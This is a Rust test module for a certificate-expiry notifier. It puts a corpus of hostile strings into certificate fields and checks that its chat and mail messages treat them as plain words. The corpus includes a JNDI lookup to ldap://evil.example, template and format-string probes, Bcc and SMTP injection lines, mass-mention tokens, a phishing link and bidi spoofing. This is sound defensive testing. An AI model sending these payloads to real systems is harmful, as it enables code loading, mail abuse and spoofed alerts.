//! Text that the owner of a scanned host controls: it mentions no one, links nowhere, forges no line, breaks no payload.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use certnotify::cause::Clause;
use certnotify::event::Evidence;
use certnotify::policy::{Channel, Language};
use certnotify::render::{Body, Message};
use proptest::prelude::*;
use serde_json::Value;

use super::fleet::{CHATS, Case, World, fleet, somebody};
use super::harmless_mail::assert_mails_are_safe;
use super::kinds::{has_code, is_phone, is_slack};
use crate::support::chat_vendors::{is_for_phones, links_of_telegram};

pub(super) fn corpus() -> Vec<String> {
    let fixed = [
        "<at id=all></at>",
        "<at user_id=\"all\">x</at>",
        "<@all>",
        "<@zhangsan>",
        "@13800000000",
        "@everyone @here <@&1> <@1>",
        "<!channel> <!here|x>",
        "[Pay now](https://evil.example)",
        "<https://evil.example|bank>",
        "![x](https://evil.example/p.png)",
        "*.example.com",
        "*.a.com *.b.com",
        "a_b_c.example",
        "``x`y``z``",
        "\n# EXPIRED\n- www.victim.com 900d",
        "</font><font color=\"info\">OK",
        ":DONE: &#60;at id=all&#62;",
        "&lt;at id=all&gt;",
        "\u{202e}moc.elpmaxe.www\u{2066}",
        "",
        " ",
        "\u{0}\u{85}\u{fffd}x\u{7f}\u{1b}[2J\u{1b}]0;title\u{7}",
        "${jndi:ldap://evil.example} {{7*7}} %s %n",
        "=HYPERLINK(\"http://e\")",
        "👩\u{200d}👩\u{200d}👧\u{200d}👦 🏳\u{fe0f}\u{200d}🌈",
        "\"},\"at\":{\"isAtAll\":true},\"x\":{\"",
        "\r\nBcc: v@evil.example",
        ".\r\nMAIL FROM:<x>",
        "=?UTF-8?B?SGVsbG8=?=",
        "\u{1fef}\u{1fef}\u{1fef}code\u{1fef}",
        "> quote",
        "# heading",
        "- item",
        "1. item",
        "---",
        "| a | b |",
        "-- \nsignature",
    ];
    let mut corpus: Vec<String> = fixed.map(str::to_owned).to_vec();
    corpus.push("A".repeat(16384));
    corpus.push("证\u{202e}".repeat(5000));
    corpus
}

/// A certificate with `text` wherever its owner, its issuer, a peer or the name of a file could put it.
pub(super) fn poisoned(text: &str, number: usize) -> Case {
    let mut case = fleet(number + 1).remove(number);
    case.certificate.subject = format!("CN={text}").into();
    case.certificate.issuer = format!("CN={text},O={text}").into();
    text.clone_into(&mut case.certificate.serial);
    case.certificate.dns_names = vec![text.to_owned(), format!("second {text}")];
    case.locations[0].address = Some(text.to_owned());
    case.locations[0].failing = Some(Clause::Text(text.to_owned()));
    // A path has no two slashes in a row.
    let path = text.split('/').filter(|part| !part.is_empty()).collect::<Vec<_>>().join("/");
    case.locations[0].name = format!("entry/{path}").into();
    case.locations[0].place = format!("/srv/{path}").into();
    case.left_out = vec![format!("second {text}")];
    case.evidence = Evidence::Reported { by: text.to_owned() };
    case
}

pub(super) fn many(text: &str, size: usize) -> Vec<Case> {
    (0..size).map(|number| poisoned(text, number)).collect()
}

pub(super) fn worlds() -> Vec<World> {
    let mut worlds = World::all();
    for world in &mut worlds {
        for channel in CHATS.iter() {
            world.robot(*channel).mention = somebody(*channel).map(str::to_owned).into_iter().collect();
        }
        world.robot(Channel::DingTalk).mention = vec!["13800000000".to_owned()];
        world.robot(Channel::Lark).mention = vec!["ou_1".to_owned()];
    }
    worlds
}

pub(super) fn strings<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(items) => items.iter().for_each(|item| strings(item, found)),
        Value::Object(members) => members.values().for_each(|member| strings(member, found)),
        _ => {}
    }
}

/// The payload with every string emptied: what is left is its shape.
pub(super) fn shape(value: &Value) -> Value {
    match value {
        Value::String(_) => Value::String(String::new()),
        Value::Array(items) => items.iter().map(shape).collect(),
        Value::Object(members) => members.iter().map(|(key, member)| (key.clone(), shape(member))).collect(),
        other => other.clone(),
    }
}

/// How often each key stands in the payload.
fn keys(value: &Value) -> BTreeMap<String, usize> {
    let mut keys = BTreeMap::new();
    let mut add =
        |inner: BTreeMap<String, usize>| inner.into_iter().for_each(|(key, n)| *keys.entry(key).or_default() += n);
    match value {
        Value::Array(items) => items.iter().for_each(|item| add(self::keys(item))),
        Value::Object(members) => members.iter().for_each(|(key, member)| {
            add(BTreeMap::from([(key.clone(), 1)]));
            add(self::keys(member));
        }),
        _ => {}
    }
    keys
}

pub(super) fn count(text: &str, wanted: &str) -> usize {
    text.matches(wanted).count()
}

pub(super) fn assert_is_printable(text: &str) {
    let deceives = |character: char| {
        (character.is_control() && character != '\n')
            || "\u{ad}\u{61c}\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{feff}\u{fe0f}"
                .contains(character)
            || ('\u{202a}'..='\u{202e}').contains(&character)
            || ('\u{2060}'..='\u{206f}').contains(&character)
            || character >= '\u{e0000}'
    };
    assert!(!text.contains(deceives), "{text:?}");
}

/// Nothing but the words between the markup may differ from a message about harmless text.
pub(super) fn assert_is_harmless(channel: Channel, payload: &Value, twin: &Value) {
    assert_eq!(serde_json::from_str::<Value>(&payload.to_string()).unwrap(), *payload);
    assert_eq!(payload["at"], twin["at"]);
    let (mut texts, mut twins) = (Vec::new(), Vec::new());
    strings(payload, &mut texts);
    strings(twin, &mut twins);
    let (mut texts, mut twins): (Vec<String>, Vec<String>) =
        (texts.into_iter().map(str::to_owned).collect(), twins.into_iter().map(str::to_owned).collect());
    if channel == Channel::Telegram {
        assert_is_harmless_in_telegram(payload, twin);
        // What is code, and how long, differs with every word.
        let text = |payload: &Value| vec![payload["text"].as_str().unwrap().to_owned()];
        (texts, twins) = (text(payload), text(twin));
    } else if matches!(channel, Channel::Slack | Channel::SlackApp | Channel::Discord) {
        // A block ends where the next row is too much for it: what stands in all of them is compared.
        assert_eq!(keys(payload), keys(twin), "{channel}");
        (texts, twins) = (vec![texts.concat()], vec![twins.concat()]);
    } else {
        assert_eq!(shape(payload), shape(twin), "{channel}");
    }
    for (text, twin) in texts.iter().zip(&twins) {
        assert_is_printable(text);
        assert_eq!(count(text, "\n"), count(twin, "\n"), "{text}");
        // A card names its schema.
        assert_eq!(count(text, "://"), count(twin, "://"), "{text}");
        match channel {
            // All text stands in elements that have no markup; but for the fallback of Slack.
            Channel::Lark | Channel::LarkApp => {}
            Channel::Matrix => {
                assert_eq!(count(text, "@"), count(twin, "@"), "{text}");
                let tags = |text: &str| count(&text.replace("<code>", "").replace("</code>", ""), "<");
                assert!(!twin.starts_with("<p>") || tags(text) == tags(twin), "{text}");
            }
            // There is no markup; but a phone makes mentions and links of words.
            Channel::Telegram
            | Channel::Ntfy
            | Channel::Gotify
            | Channel::Pushover
            | Channel::Bark
            | Channel::Apprise => {
                assert!(!text.contains('@'), "{text}");
            }
            Channel::Teams => assert!(!text.contains("{{"), "{text}"),
            Channel::Slack | Channel::SlackApp => {
                let is_markup = payload.get("blocks").is_none();
                assert!(!is_markup || ["<", ">"].iter().all(|mark| count(text, mark) == count(twin, mark)), "{text}");
            }
            _ => assert_has_marks_of(channel, &unescaped(channel, text), &unescaped(channel, twin)),
        }
    }
    // What a notification of Slack shows has no markup beside its own escapes.
    let preview = payload["text"].as_str().filter(|_| is_slack(channel) && payload.get("blocks").is_some());
    assert!(preview.is_none_or(|text| !text.contains(['<', '>', '@', '`', '[', '#', '|'])), "{payload}");
    let mentions = |payload: &Value| [payload["content"].clone(), payload["allowed_mentions"].clone()];
    assert!(channel != Channel::Discord || mentions(payload) == mentions(twin), "{payload}");
}

/// The same parts are bold and quoted, and the server finds nothing to make a link, a mention or a command of.
fn assert_is_harmless_in_telegram(payload: &Value, twin: &Value) {
    let marked = |payload: &Value, kind: &str| {
        payload["entities"].as_array().into_iter().flatten().filter(|entity| entity["type"] == kind).count()
    };
    for kind in ["blockquote", "pre", "text_link"] {
        assert_eq!(marked(payload, kind), marked(twin, kind), "{payload}");
    }
    if payload.get("entities").is_some() {
        assert_eq!(links_of_telegram(payload), Vec::<String>::new(), "{payload}");
        assert_eq!(is_for_phones(Channel::Telegram, payload), Ok(()), "{payload}");
    }
    assert_eq!(payload["link_preview_options"], twin["link_preview_options"]);
}

/// The marks that are none are gone: those behind a backslash, where a service knows them.
fn unescaped(channel: Channel, text: &str) -> String {
    if channel != Channel::Discord {
        return text.to_owned();
    }
    let mut marks = String::new();
    let mut characters = text.chars();
    while let Some(character) = characters.next() {
        match character {
            '\\' => drop(characters.next()),
            other => marks.push(other),
        }
    }
    marks
}

fn assert_has_marks_of(channel: Channel, text: &str, twin: &str) {
    for mark in ["<", ">", "@", "[", "](", "#", "\n> ", "\n\n", "**", "![", "|", "~~", "||"] {
        assert_eq!(count(text, mark), count(twin, mark), "{channel} {mark:?}: {text}");
    }
    let single = if channel == Channel::Discord { ["*", "_"].as_slice() } else { &[] };
    assert!(single.iter().all(|mark| count(text, mark) == count(twin, mark)), "{text}");
    assert!(has_code(channel) || !text.contains('`'), "{text}");
    let codes: Vec<&str> = text.split('`').skip(1).step_by(2).collect();
    assert!(count(text, "`").is_multiple_of(2) && codes.iter().all(|code| !code.contains([' ', '\n', '<'])), "{text}");
}

/// Whatever a card takes as markup is the same for every certificate.
pub(super) fn markup(value: &Value, found: &mut Vec<String>) {
    match value {
        Value::Object(members) if members.get("tag").and_then(Value::as_str) == Some("lark_md") => {
            found.push(members["content"].to_string());
        }
        Value::Object(members) if matches!(members.get("type").and_then(Value::as_str), Some("mrkdwn" | "link")) => {
            found.push(value.to_string());
        }
        Value::Object(members) => members.values().for_each(|member| markup(member, found)),
        Value::Array(items) => items.iter().for_each(|item| markup(item, found)),
        _ => {}
    }
}

/// In how many blocks or embeds the rows stand.
fn blocks(payload: &Value) -> usize {
    [&payload["blocks"], &payload["embeds"]].iter().filter_map(|blocks| blocks.as_array()).map(Vec::len).sum()
}

/// In how many parts the rows stand where a message takes so little that long words change the layout.
fn paragraphs(channel: Channel, payload: &Value) -> usize {
    match channel {
        Channel::Pushover => count(payload["message"].as_str().unwrap(), "\n\n"),
        // With the facts of rows that are not told line by line.
        Channel::WeComApp => {
            let text = payload["markdown"]["content"].as_str().unwrap();
            count(text, "\n\n") + count(text, " · ")
        }
        Channel::Bark | Channel::Apprise => count(payload["body"].as_str().unwrap(), "\n\n"),
        _ => 0,
    }
}

/// By language, size and channel: the first message about any number of certificates with harmless text.
pub(super) type Twins = BTreeMap<(usize, usize, Channel), Message>;

/// Each of `sizes` in each language.
pub(super) fn in_each_language(sizes: &[usize]) -> Vec<(usize, usize)> {
    (0..Language::ALL.len()).flat_map(|nth| sizes.iter().map(move |size| (nth, *size))).collect()
}

pub(super) fn first_messages(text: &str, languages_and_sizes: &[(usize, usize)]) -> Twins {
    static WORLDS: LazyLock<Vec<World>> = LazyLock::new(worlds);
    let mut firsts = BTreeMap::new();
    for &(nth, size) in languages_and_sizes {
        let cases = many(text, size);
        for channel in CHATS.iter().copied() {
            firsts.insert((nth, size, channel), WORLDS[nth].messages(channel, &cases).remove(0));
        }
    }
    firsts
}

pub(super) fn assert_rooms_are_safe(text: &str, languages_and_sizes: &[(usize, usize)], twins: &Twins) {
    for (key, message) in first_messages(text, languages_and_sizes) {
        let twin = &twins[&key];
        let (Body::Chat { payload, plainer }, Body::Chat { payload: twin, plainer: plain_twin }) =
            (&message.body, &twin.body)
        else {
            panic!("a chat has a chat's body")
        };
        // Where long words leave room for fewer rows in a message or a block, smaller batches show that they are harmless.
        let is_packed_alike = message.certificates == twins[&key].certificates
            && blocks(payload) == blocks(twin)
            && paragraphs(key.2, payload) == paragraphs(key.2, twin);
        // In some languages one row of long words, line by line, is too much for an application of WeCom.
        if !is_packed_alike && (key.1 > 1 || key.2 == Channel::WeComApp) {
            continue;
        }
        assert_is_harmless(key.2, payload, twin);
        for (plainer, twin) in plainer.iter().zip(plain_twin) {
            assert_is_harmless(key.2, plainer, twin);
        }
        let (mut marks, mut twin_marks) = (Vec::new(), Vec::new());
        markup(payload, &mut marks);
        markup(twin, &mut twin_marks);
        assert_eq!(marks, twin_marks);
    }
}

pub(super) fn tags(html: &str) -> Vec<&str> {
    html.split('<').skip(1).map(|part| part.split('>').next().unwrap()).collect()
}

#[test]
fn the_hostile_corpus_is_only_words_in_every_room() {
    let twins = first_messages("harmless text", &in_each_language(&[1, 20, 70]));
    for (number, text) in corpus().into_iter().enumerate() {
        // One row in each language, many in one of them.
        let mut languages_and_sizes = in_each_language(&[1]);
        languages_and_sizes.push((number % Language::ALL.len(), 20));
        if text.len() < 1000 && number % 8 == 0 {
            languages_and_sizes.push((number % Language::ALL.len(), 70));
        }
        assert_rooms_are_safe(&text, &languages_and_sizes, &twins);
    }
}

#[test]
fn the_hostile_corpus_is_only_words_in_every_mail() {
    for text in corpus() {
        assert_mails_are_safe(&text);
    }
}

#[test]
fn an_address_that_is_cut_short_is_no_link() {
    assert_mails_are_safe(&format!("{} https://evil.example", "ab ".repeat(20)));
}

#[test]
fn a_certificate_without_any_name_is_called_by_its_entry() {
    for names in [Vec::new(), vec![String::new()]] {
        let mut case = fleet(1).remove(0);
        case.certificate.subject = "".into();
        case.certificate.dns_names = names;
        let world = World::from_language(Language::English);
        let mail = world.mail(&[case]);
        assert!(mail.subject.starts_with("fleet/host-0000.region-0.example.com: certificate"), "{}", mail.subject);
    }
}

#[test]
fn five_thousand_names_are_counted() {
    let mut case = fleet(1).remove(0);
    case.certificate.dns_names = (0..5000).map(|number| format!("n{number}.example.com")).collect();
    let world = World::from_language(Language::English);
    let text = world.mail(std::slice::from_ref(&case)).text;
    assert!(text.contains("and 4980 more") && text.len() < 4000, "{text}");
    let rooms = CHATS.iter().filter(|channel| !is_phone(**channel)); // A phone has no room for them.
    for payload in rooms.map(|channel| world.payloads(*channel, std::slice::from_ref(&case)).remove(0)) {
        assert!(payload.to_string().contains("n2.example.com"));
        assert!(payload.to_string().contains("and 4997 more"));
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_only_words(text in "[\\PC\\n\\r\\t<>@\\[\\]()`*_#&:/.\\-\u{200b}\u{202e}]{0,80}") {
        static TWINS: LazyLock<Twins> = LazyLock::new(|| first_messages("harmless text", &in_each_language(&[1, 20])));
        let mut languages_and_sizes = in_each_language(&[1]);
        languages_and_sizes.push((text.len() % Language::ALL.len(), 20));
        assert_rooms_are_safe(&text, &languages_and_sizes, &TWINS);
        assert_mails_are_safe(&text);
    }
}
